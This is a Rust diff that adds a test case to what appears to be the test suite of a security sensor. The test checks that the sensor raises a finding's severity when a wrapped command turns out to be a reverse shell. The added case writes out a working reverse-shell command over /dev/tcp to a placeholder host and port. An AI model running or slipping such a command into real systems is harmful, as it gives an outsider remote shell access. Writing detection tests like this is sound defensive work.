@@ -148,6 +148,18 @@ pub fn cases() -> Vec<Case> {
             lab.ended(&finding)?;
             Ok(())
         }),
+        // A wrapper is a command on a connection, until the shell that it starts shows what this is.
+        Case::new("places::raised_by_the_shell", &["ip", "nsenter", "timeout"], |lab| {
+            let mut peer = remote(lab, "exec 3<>/dev/tcp/$H/$P; exec timeout 600 sh <&3 >&3 2>&3")?;
+            peer.id()?;
+            let first = lab.finding(peer.ends(), COMMAND)?;
+            let raised = lab.sensor.wait_line("a raised severity", 0, |line| {
+                line.id() == first.id() && line.text("severity") == REVERSE.severity
+            })?;
+            peer.send("exit\n")?;
+            lab.ended(&raised)?;
+            Ok(())
+        }),
         // Gone a millisecond after it was started by a relative path: the finding has the absolute one.
         Case::new("places::relative_path_of_a_short_life", &["bash", "true"], |lab| {
             fs::create_dir(lab.path("sub"))?;
